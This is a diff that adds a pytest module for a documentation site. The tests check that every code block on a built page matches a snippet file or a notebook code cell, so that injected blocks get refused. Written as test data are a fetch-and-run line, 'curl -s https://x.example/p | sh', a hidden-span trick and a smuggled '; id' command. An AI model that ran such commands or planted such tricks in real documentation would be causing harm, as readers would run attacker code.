@@ -1,0 +1,116 @@
+"""Every code block of a page is an include of snippets/, in the site as uploaded.
+
+The attack: a pull request writes a code block into both languages' Markdown as raw HTML
+(``<div class="language-bash highlight"><pre><code>…``, the markup Pygments writes) instead
+of a fence. The conventions check reads fences only, so the block was never an include, never
+rehearsed and never compared with anything; the strict build and the artifact check passed,
+and readers saw and copied ``accelerate launch … train_hf.py`` followed by ``curl … | sh``.
+The checks below plant, in a copy of the built site, exactly what the build wrote for that
+Markdown (Markdown passes a raw HTML block through as it is), and its variants; the oracle
+for "is an include" is the files of snippets/ themselves, and on a notebook page the code
+cells of its .ipynb (a fence in a Markdown cell is no cell and never ran).
+"""
+
+from __future__ import annotations
+
+import shutil
+
+import pytest
+
+from tests.conftest import REPO_ROOT
+from verify.artifact import ArtifactError, check_site, notebook_pages
+
+ACCELERATE_END = 'bf16<span class="w"> </span>train_hf.py\n</code></pre></div>'
+RAW = ('\n<div class="language-bash highlight"><pre><span></span><code>accelerate launch <span class="code-word">--num_processes</span> 4 '
+       '<span class="code-word">--mixed_precision</span> bf16 train_hf.py\ncurl <span class="code-word">-s</span> '
+       'https://x.example/p | sh\n</code></pre></div>\n')
+
+
+@pytest.fixture(scope="module")
+def copied(built_site, tmp_path_factory):
+    copy = tmp_path_factory.mktemp("code-blocks") / "site"
+    shutil.copytree(built_site, copy, symlinks=True)
+    return copy
+
+
+@pytest.fixture
+def site(copied):
+    """The module's copy of the built site; the pages a test changes are put back after it."""
+    before = {path: path.read_bytes() for path in copied.rglob("*.html")}
+    yield copied
+    for path, data in before.items():
+        if path.read_bytes() != data:
+            path.write_bytes(data)
+
+
+def plant(site, page: str, new: str, old: str = ACCELERATE_END) -> None:
+    """``new`` right after the first ``old`` of ``page``."""
+    path = site / page
+    text = path.read_text(encoding="utf-8")
+    assert old in text, f"{page} no longer holds {old[:60]!r}: update this test"
+    path.write_text(text.replace(old, old + new, 1), encoding="utf-8")
+
+
+def refused(site, *match: str) -> str:
+    with pytest.raises(ArtifactError) as caught:
+        check_site(site, REPO_ROOT / "snippets")
+    message = str(caught.value)
+    assert "\n" not in message
+    for part in match:
+        assert part in message, message
+    return message
+
+
+def test_a_code_block_written_as_raw_html_in_both_languages_is_refused(site):
+    for page in ("index.html", "fr/index.html"):
+        plant(site, page, RAW)
+    refused(site, "index.html: code block", "is not a file of snippets/")
+
+
+def test_a_hidden_part_of_an_untitled_block_is_refused(site):
+    """Issue 19's hole 2 on a block without a title: the reader sees a live line, the copy and
+    the comparison read a comment."""
+    path = site / "index.html"
+    text = path.read_text(encoding="utf-8")
+    old = '<code><span class="c1"># Uno script con Accelerator'
+    assert old in text, "index.html no longer holds the accelerate block: update this test"
+    path.write_text(text.replace(old, '<code><span class="c1"><span hidden># </span>Uno script con Accelerator', 1), encoding="utf-8")
+    refused(site, "index.html: code block", "<span hidden")
+
+
+def test_a_french_block_that_the_italian_page_lacks_is_refused(site):
+    plant(site, "fr/index.html", RAW)
+    refused(site, "fr/index.html", "code blocks, index.html has")
+
+
+def test_a_french_block_that_runs_otherwise_is_refused(site):
+    path = site / "fr" / "index.html"
+    text = path.read_text(encoding="utf-8")
+    old = 'bf16<span class="w"> </span>train_hf.py\n</code></pre></div>'
+    assert old in text
+    path.write_text(text.replace(old, 'bf16<span class="w"> </span>train_hf.py<span class="p">;</span> id\n</code></pre></div>', 1),
+                    encoding="utf-8")
+    refused(site, "fr/index.html, block")
+
+
+def test_the_notebook_pages_are_the_notebooks():
+    assert notebook_pages(REPO_ROOT / "docs") == {"memory-notebook/index.html": REPO_ROOT / "docs" / "memory-notebook.it.ipynb",
+                                                   "fr/memory-notebook/index.html": REPO_ROOT / "docs" / "memory-notebook.fr.ipynb"}
+
+
+NOTEBOOK_FIRST_TEXT = '<p>Questo notebook viene eseguito a ogni build del sito'
+
+
+def test_a_code_block_in_a_notebooks_markdown_cell_is_refused(site):
+    """A fence (or raw <pre>) in a Markdown cell of the notebook: shown as code, never ran."""
+    plant(site, "memory-notebook/index.html", '<pre><code>curl -s https://x.example/p | sh\n</code></pre>', old=NOTEBOOK_FIRST_TEXT)
+    refused(site, "memory-notebook/index.html: code block 1", "is not a code cell of memory-notebook.it.ipynb")
+
+
+def test_a_notebook_cell_shown_twice_or_out_of_order_is_refused(site):
+    path = site / "memory-notebook" / "index.html"
+    text = path.read_text(encoding="utf-8")
+    first = text.index("<pre")
+    block = text[first:text.index("</pre>", first) + len("</pre>")]
+    plant(site, "memory-notebook/index.html", block, old=NOTEBOOK_FIRST_TEXT)  # the first cell, shown again before it
+    refused(site, "memory-notebook/index.html: code block 2", "is not a code cell")
